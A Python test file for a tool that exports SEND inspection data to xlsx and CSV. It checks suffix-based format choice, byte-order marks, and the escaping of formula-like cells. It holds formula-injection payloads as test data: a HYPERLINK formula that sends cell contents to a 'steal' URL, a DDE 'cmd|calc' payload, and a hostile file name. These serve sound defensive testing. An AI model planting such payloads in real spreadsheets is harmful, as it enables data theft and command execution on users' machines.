"""Outputs for spreadsheets: the xlsx workbook read back with openpyxl, the export format chosen from
-o's suffix, CSV files with a byte-order mark, and no cell a spreadsheet would run as a formula in any
CSV the project writes or in the workbook (a report holding =HYPERLINK(...) and the like)."""

import csv
import datetime
import io
import shutil

import openpyxl
import pytest
from click.testing import CliRunner
from support.paths import DATA

from sendgraph.cli import main
from sendgraph.formats import csv_safe
from sendgraph.graph.build import build_graph
from sendgraph.graph.export import add_duration, format_for
from sendgraph.graph.files import write_graph
from sendgraph.errors import UsageError
from sendgraph.read.extract import extract_paths
from sendgraph.vocab import OUTCOME_LABELS, OUTCOMES

HOSTILE = '=HYPERLINK("http://host/steal?"&A1,"X")'
# Paragraph openings of data/hartlepool-2023-area-send-inspection.txt, each given a hostile start.
PREFIXED = {
    "Children's needs are accurately identified at an early stage": HOSTILE,
    "Most children and young people benefit from effective identification": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Children and young people receive effective early help intervention": "+1+2 ",
    "Enhanced transition processes support children": "-2+3 ",
}


def run(*args, columns=100):
    result = CliRunner(env={"COLUMNS": str(columns)}).invoke(main, [str(a) for a in args])
    assert "Traceback" not in result.output
    return result


@pytest.fixture(scope="module")
def data_graph(tmp_path_factory):
    path = tmp_path_factory.mktemp("sheets") / "data.trig"
    write_graph(build_graph(extract_paths([DATA]).records), path)
    return path


@pytest.fixture(scope="module")
def workbook_file(data_graph, tmp_path_factory):
    out = tmp_path_factory.mktemp("sheets") / "send.xlsx"
    result = run("export", "-g", data_graph, "-o", out)  # the format from the suffix
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def hostile_graph(tmp_path_factory):
    """The graph of a real report whose paragraphs start like formulas, read from a file named like one."""
    folder = tmp_path_factory.mktemp("hostile")
    text = (DATA / "hartlepool-2023-area-send-inspection.txt").read_text(encoding="utf-8")
    for opening, prefix in PREFIXED.items():
        assert opening in text
        text = text.replace(opening, prefix + opening, 1)
    (folder / "in").mkdir()
    (folder / "in" / "=cmd|calc.txt").write_text(text, encoding="utf-8")
    shutil.copy(DATA / "hartlepool-2016-and-middlesbrough-2017-send-inspection-letters.txt", folder / "in")
    path = folder / "hostile.trig"
    write_graph(build_graph(extract_paths([folder / "in"]).records), path)
    return path


def sheet_rows(ws):
    header = [c.value for c in ws[1]]
    return [dict(zip(header, row)) for row in ws.iter_rows(min_row=2)]


def test_workbook_sheets_rows_and_typed_cells(workbook_file):
    wb = openpyxl.load_workbook(workbook_file)
    assert wb.sheetnames == ["Areas", "Inspections", "Findings", "Inspectors"]
    inspections = sheet_rows(wb["Inspections"])
    # One row per inspection, both frameworks (2016 letters and revisit, 2023 reports).
    assert [(r["Area"].value, r["Start"].value.date().isoformat()) for r in inspections] == [
        ("Hartlepool", "2016-10-03"), ("Hartlepool", "2023-03-13"), ("Middlesbrough", "2017-03-20"),
        ("Middlesbrough", "2019-07-08"), ("Middlesbrough", "2023-10-09"), ("Stockton-on-Tees", "2019-02-04")]
    assert {r["Framework"].value for r in inspections} == {"2016", "2023"}
    assert all(r["Start"].is_date and r["End"].is_date for r in inspections)
    h2023 = inspections[1]
    assert h2023["Outcome"].value == "Positive experiences and outcomes"
    assert h2023["Next full inspection"].value == "within 5 years"
    assert h2023["Next full inspection due"].value == datetime.datetime(2028, 3, 17)  # end date + 5 years
    assert h2023["Areas for improvement"].value == 3 and h2023["Areas for improvement"].data_type == "n"
    assert inspections[3]["Inspection"].value == "revisit"
    assert inspections[3]["Outcome"].value == "Sufficient progress"
    areas = {r["Area"].value: r for r in sheet_rows(wb["Areas"])}
    assert list(areas) == ["Hartlepool", "Middlesbrough", "Stockton-on-Tees"]
    m = areas["Middlesbrough"]
    assert (m["ONS code"].value, m["DfE LA number"].value, m["Region"].value) == ("E06000002", "806", "North East")
    assert m["Local authority"].value == "Middlesbrough Council"
    assert m["ICB"].value == "NHS North East and North Cumbria Integrated Care Board"
    assert m["Latest start"].value == datetime.datetime(2023, 10, 9) and m["Latest start"].is_date
    assert m["Next full inspection due"].value == datetime.datetime(2028, 10, 13)
    assert (m["Previous inspection"].value, m["Previous outcome"].value) == ("revisit", "Sufficient progress")
    assert m["Inspections"].value == 3
    # Outcomes in words, never codes.
    for sheet, columns in (("Areas", ("Latest outcome", "Previous outcome")), ("Inspections", ("Outcome",))):
        for row in sheet_rows(wb[sheet]):
            for column in columns:
                value = row[column].value
                assert value is None or value in OUTCOME_LABELS.values(), (sheet, column, value)
                assert value not in OUTCOMES
    findings = sheet_rows(wb["Findings"])
    assert len(findings) == 216
    kinds = {r["Kind"].value for r in findings}
    assert {"Strength", "Weakness", "Area for improvement", "Area of significant weakness"} <= kinds
    assert not kinds & {"significant_weakness", "improvement", "priority_action"}
    assert all(isinstance(r["Paragraph"].value, int) for r in findings if r["Paragraph"].value is not None)
    inspectors = {r["Name"].value: r for r in sheet_rows(wb["Inspectors"])}
    whittaker = inspectors["Nick Whittaker"]
    assert (whittaker["Organisation"].value, whittaker["Inspections"].value, whittaker["Led"].value) == ("Ofsted", 2, 2)
    assert "Cathryn Kirby" not in inspectors  # a signatory, not a team member
    for ws in wb:
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
        assert ws.column_dimensions["A"].width > 5


def test_workbook_of_the_corpus_has_priority_actions_and_responsible_bodies(tmp_path):
    from support.analytics_graphs import corpus_dataset

    graph = tmp_path / "corpus.trig"
    write_graph(corpus_dataset(), graph)
    out = tmp_path / "corpus.xlsx"
    assert run("export", "-f", "xlsx", "-g", graph, "-o", out).exit_code == 0
    wb = openpyxl.load_workbook(out)
    findings = sheet_rows(wb["Findings"])
    priority = [r for r in findings if r["Kind"].value == "Priority action"]
    assert priority and any(r["Responsible body"].value for r in priority)
    areas = sheet_rows(wb["Areas"])
    assert sum(r["Priority actions"].value for r in areas) > 0
    assert len({r["Area"].value for r in areas}) == len(areas)


def test_workbook_stores_formula_text_as_text(hostile_graph, tmp_path):
    out = tmp_path / "hostile.xlsx"
    assert run("export", "-g", hostile_graph, "-o", out).exit_code == 0
    wb = openpyxl.load_workbook(out)
    cells = [c for row in wb["Findings"].iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    starts = {prefix.strip()[:1] for prefix in PREFIXED.values()}
    hostile = [c for c in cells if c.value[:1] in starts]
    assert {c.value[:1] for c in hostile} == starts
    assert any(c.value.startswith(HOSTILE) for c in hostile)
    for c in hostile + [c for c in cells if c.value.startswith("=cmd")]:
        assert c.data_type == "s", c.value  # text, not a formula
    files = {r["File"].value for r in sheet_rows(wb["Findings"])}
    assert "=cmd|calc.txt" in files


def test_every_csv_output_neutralises_formulas(hostile_graph, tmp_path):
    def cells(text):
        return [c for row in csv.reader(io.StringIO(text)) for c in row]

    outputs = {
        "query": run("query", "SELECT ?q WHERE { ?s oa:exact ?q }", "-g", hostile_graph, "-f", "csv").stdout,
        "history": run("history", "Hartlepool", "-g", hostile_graph, "-f", "csv").stdout,
        "themes": run("themes", "--theme", "early-identification", "-g", hostile_graph, "-f", "csv").stdout,
        "search": run("search", "accurately identified", "-g", hostile_graph, "-f", "csv").stdout,
    }
    for name, text in outputs.items():
        found = cells(text)
        assert not [c for c in found if c.startswith(("=", "+", "@", "\t", "\r"))
                    or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())], name
        assert any(c.startswith("'=") for c in found), name
    assert "'=cmd|calc.txt" in cells(outputs["history"])
    assert any(c.startswith("'" + HOSTILE) for c in cells(outputs["query"]))
    assert {c[:2] for c in cells(outputs["query"]) if c.startswith("'")} >= {"'=", "'@", "'+", "'-"}


def test_export_csv_neutralises_formulas_and_starts_with_a_bom(data_graph, tmp_path):
    from rdflib import Literal, URIRef
    from rdflib.namespace import FOAF, RDF

    from sendgraph.graph.export import export, inspection_rows
    from sendgraph.graph.files import load_graph
    from sendgraph.vocab import SG

    graph = load_graph(data_graph)
    inspection = URIRef("https://w3id.org/sendgraph/id/inspection/hartlepool/2023-03-13")
    person = URIRef("https://w3id.org/sendgraph/id/person/x")
    graph.add((person, RDF.type, FOAF.Person))
    graph.add((person, FOAF.name, Literal(HOSTILE)))
    graph.add((inspection, SG.leadInspector, person))
    assert any(r["lead_inspectors"].startswith(HOSTILE) for r in inspection_rows(graph))
    out = tmp_path / "inspections.csv"
    export(graph, "csv", out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfarea,ons_code,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    lead = next(r["lead_inspectors"] for r in rows if r["start_date"] == "2023-03-13")
    assert lead.startswith("'" + HOSTILE)
    h2023 = next(r for r in rows if r["start_date"] == "2023-03-13")
    assert (h2023["outcome"], h2023["outcome_label"]) == ("positive", "Positive experiences and outcomes")
    assert (h2023["next_full_inspection_within_label"], h2023["next_full_inspection_due"]) == ("within 5 years",
                                                                                                "2028-03-17")
    assert (h2023["region"], h2023["la_code"], h2023["local_authority"]) == ("North East", "805",
                                                                            "Hartlepool Borough Council")
    printed = run("export", "-f", "csv", "-g", data_graph).stdout
    assert printed.startswith("area,")  # standard output gets no byte-order mark


def test_csv_safe_rule():
    assert [csv_safe(v) for v in ("=1+2", "+44 20", "-x", "@SUM(A1)", "\tx", "\rx", "plain", "", None)] == [
        "'=1+2", "'+44 20", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "plain", "", ""]
    assert [csv_safe(v) for v in ("-0.25", "-3", "+1.5e3", 2)] == ["-0.25", "-3", "+1.5e3", "2"]  # plain numbers


@pytest.mark.parametrize("fmt, output, expected", [
    (None, "x.xlsx", "xlsx"), (None, "x.csv", "csv"), (None, "x.nt", "ntriples"), (None, "x.ttl", "turtle"),
    (None, "x.gexf", "gexf"), (None, "x.graphml", "graphml"), (None, "x.json", "jsonld"), ("csv", "x.CSV", "csv"),
    ("csv", None, "csv"), ("turtle", "x.txt", "turtle"),
])
def test_format_from_the_suffix(fmt, output, expected):
    assert format_for(fmt, output) == expected


def test_export_refuses_a_suffix_that_contradicts_the_format(data_graph, tmp_path):
    for args, words in ((["-f", "csv", "-o", tmp_path / "x.xlsx"], "the suffix .xlsx is for xlsx, not csv"),
                        (["-f", "turtle", "-o", tmp_path / "y.nt"], "the suffix .nt is for ntriples, not turtle"),
                        (["-o", tmp_path / "z.txt"], "cannot tell the format from .txt"),
                        (["-f", "xlsx"], "give -o FILE.xlsx"),
                        ([], "give the format (-f)")):
        result = run("export", "-g", data_graph, *args)
        assert result.exit_code == 2, args
        assert result.stdout == "" and len(result.stderr.strip().splitlines()) == 1 and words in result.stderr
    assert list(tmp_path.iterdir()) == []  # nothing written
    with pytest.raises(UsageError):
        format_for("csv", "x.xlsx")


def test_export_writes_each_format_its_suffix_names(data_graph, tmp_path):
    for name in ("g.nt", "g.ttl", "g.gexf", "g.csv"):
        assert run("export", "-g", data_graph, "-o", tmp_path / name).exit_code == 0
    assert (tmp_path / "g.nt").read_text(encoding="utf-8").startswith("<https://")
    assert (tmp_path / "g.gexf").read_text(encoding="utf-8").startswith("<?xml")
    assert (tmp_path / "g.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_add_duration():
    assert add_duration("2023-03-17", "P5Y") == "2028-03-17"
    assert add_duration("2024-02-29", "P1Y") == "2025-02-28"
    assert add_duration("2023-10-31", "P18M") == "2025-04-30"
    assert add_duration("2023-01-01", "P6W") == "2023-02-12"
    assert add_duration("", "P5Y") is None and add_duration("2023-01-01", None) is None
